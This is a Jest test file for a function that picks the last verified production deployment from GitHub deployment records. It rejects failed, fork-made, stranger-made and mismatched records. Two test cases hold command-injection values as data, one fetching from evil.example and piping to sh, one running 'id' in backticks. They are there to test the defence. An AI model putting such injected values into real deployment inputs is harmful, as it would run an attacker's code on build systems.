import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { type ReleaseQuery, readLastRelease } from '../../../../src/app/act/deployment/releases.ts';
import type { ReleaseRecord } from '../../../../src/domain/release.ts';
import type { GitHubPort } from '../../../../src/github/port.ts';
import { connectTo } from '../../../support/github/connect.ts';
import { type LocalGitHub, startLocalGitHub } from '../../../support/github/local-github.ts';
import { BOT, STRANGER } from '../../../support/github/seed.ts';
import type { RunSeed } from '../../../support/github/shims/runs.ts';
import { imageOf, makeRecord, WORKFLOW } from './open-order.ts';

let github: LocalGitHub;
let port: GitHubPort;
/** Commits of main, oldest first. */
let [first, second, third] = ['', '', ''];
let environment = '';
let count = 0;

beforeAll(async () => {
  github = await startLocalGitHub({ files: { 'a.txt': 'a' }, pullRequests: [{ author: 'ana' }] });
  port = await connectTo(github);
  first = await github.readMain();
  second = await github.pushToMain({ 'a.txt': 'b' });
  third = await github.pushToMain({ 'a.txt': 'c' });
}, 30_000);
afterAll(() => {
  expect(github.violations()).toEqual([]);
  return github.close();
});
beforeEach(() => {
  count += 1;
  environment = `production-${count}`;
});

const query = (rest: Partial<ReleaseQuery> = {}): ReleaseQuery => ({
  environment,
  repository: 'acme/crm',
  workflowPaths: [WORKFLOW],
  author: BOT,
  defaultBranch: 'main',
  commit: third,
  ...rest,
});

let lastRun = 1_000;

interface Deployed {
  readonly record?: Partial<ReleaseRecord>;
  readonly run?: Partial<RunSeed>;
  readonly creator?: string;
  readonly states?: readonly (readonly [state: string, creator?: string])[];
}

function deploy(commit: string, { record, run, creator, states }: Deployed = {}): number {
  lastRun += 1;
  const runId = lastRun;
  github.addRun({ id: runId, attempt: 1, path: WORKFLOW, event: 'push', headSha: commit, ...run });
  const payload = makeRecord({ commit, environment, runId: String(runId), ...record });
  const author = creator === undefined ? {} : { creator };
  const id = github.addDeployment({ commit, environment, payload, ...author });
  for (const [state, by] of states ?? [['success']]) {
    github.addDeploymentStatus(id, { state, ...(by === undefined ? {} : { creator: by }) });
  }
  return id;
}

describe('what was verified last', () => {
  it('is nothing where nothing was deployed, or nothing by us', async () => {
    expect(await readLastRelease(port, query())).toBeUndefined();
    github.addDeployment({ commit: first, environment, payload: {} });
    expect(await readLastRelease(port, query())).toBeUndefined();
  });

  it('is the newest one, with all that its record has; four requests', async () => {
    deploy(first);
    const image = imageOf('a1');
    const id = deploy(second, { record: { image, databaseRevision: 'ae10' } });
    const before = github.requests().length;
    expect(await readLastRelease(port, query())).toEqual({
      commit: second,
      image,
      databaseRevision: 'ae10',
      runId: String(lastRun),
      deploymentId: id,
      relation: 'behind',
    });
    expect(github.requests().length - before).toBe(4);
  });

  it.each<[string, Deployed]>([
    ['only begun', { states: [['in_progress']] }],
    ['not spoken of', { states: [] }],
    ['failed', { states: [['in_progress'], ['failure']] }],
    ['rolled back', { states: [['success'], ['failure']] }],
    ['held', { states: [['success'], ['error']] }],
    ['praised by a stranger', { states: [['in_progress'], ['success', STRANGER]] }],
    ['a stranger’s', { creator: STRANGER }],
    ['of another workflow', { run: { path: '.github/workflows/other.yml' } }],
    ['of a fork', { run: { headRepository: 'mallory/crm' } }],
    ['of a pull request', { run: { event: 'pull_request' } }],
    ['of a run that is not there', { record: { runId: '9' } }],
    ['of an attempt that never was', { record: { attempt: 9 } }],
    ['of a commit that the run is not of', { run: { headSha: 'f'.repeat(40) } }],
    ['of another commit than it says', { record: { commit: 'f'.repeat(40) } }],
    ['of another environment than it says', { record: { environment: 'Production' } }],
    ['with a command for an image', { record: { image: '$(curl evil.example|sh)' } }],
    ['with a command for a commit', { record: { previousCommit: '`id`' } }],
  ])('is not what is %s', async (_, given) => {
    const id = deploy(first);
    deploy(second, given);
    expect((await readLastRelease(port, query()))?.deploymentId).toBe(id);
  });

  it('stays what it is when GitHub retires it', async () => {
    const id = deploy(second, { states: [['success'], ['inactive']] });
    expect((await readLastRelease(port, query()))?.deploymentId).toBe(id);
  });

  it('is not changed by what strangers say of it', async () => {
    const id = deploy(second, { states: [['success'], ['failure', STRANGER]] });
    expect((await readLastRelease(port, query()))?.deploymentId).toBe(id);
  });

  it('is nothing that only a branch has, though a run of it says so', async () => {
    const { headSha } = await github.openPullRequest({ files: { [`${count}.txt`]: 'evil' } });
    deploy(headSha);
    const run = { event: 'workflow_dispatch', headSha };
    deploy(second, { run });
    expect(await readLastRelease(port, query())).toBeUndefined();
  });

  it('may be newer than what is asked for, as long as it is merged', async () => {
    deploy(third);
    expect(await readLastRelease(port, query({ commit: second }))).toMatchObject({
      commit: third,
      relation: 'ahead',
    });
    expect(await readLastRelease(port, query())).toMatchObject({ relation: 'identical' });
  });

  it('may be started by a person for a commit behind main', async () => {
    deploy(first, { run: { event: 'workflow_dispatch', headSha: second } });
    expect(await readLastRelease(port, query())).toMatchObject({ commit: first });
  });
});

describe('what can’t be told', () => {
  it('rejects where GitHub lists no more', async () => {
    deploy(first);
    for (let more = 0; more < 300; more += 1) {
      github.addDeployment({ commit: second, environment, payload: {} });
    }
    await expect(readLastRelease(port, query())).rejects.toThrow('is not known');
  });

  it('rejects after a long row that failed', async () => {
    deploy(first);
    for (let more = 0; more < 20; more += 1) deploy(second, { states: [['failure']] });
    await expect(readLastRelease(port, query())).rejects.toThrow('is not known');
  });

  it('rejects where GitHub says no', async () => {
    deploy(first);
    const body = { message: 'Resource not accessible by integration' };
    github.queueFault({ kind: 'answer', status: 403, body, match: /actions\/runs/ });
    await expect(readLastRelease(port, query())).rejects.toThrow('actions: read');
  });
});
